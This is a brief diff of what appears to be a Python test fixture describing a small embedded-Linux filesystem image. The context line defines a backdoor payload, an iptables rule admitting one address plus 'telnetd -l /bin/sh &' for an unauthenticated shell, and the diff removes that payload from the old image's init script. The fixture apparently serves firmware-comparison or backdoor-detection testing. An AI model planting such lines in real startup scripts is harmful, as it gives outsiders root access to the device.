@@ -16,7 +16,7 @@ MORE = b"iptables -A INPUT -s 9.9.9.9 -j ACCEPT\ntelnetd -l /bin/sh &\n"
 OLD = {
     "etc/passwd": (b"root:*:0:0:root:/root:/bin/sh\n", 0o644),
     "etc/inittab": (b"::sysinit:/etc/init.d/rcS\n", 0o644),
-    "etc/init.d/rcS": (START + MORE, 0o755),
+    "etc/init.d/rcS": (START, 0o755),
     "etc/crontabs/root": (b"# by the clock\n0 3 * * * /usr/bin/rotate\n", 0o600),
     "usr/sbin/relay": ("first", 0o755),
     "usr/sbin/same": ("plain", 0o755),
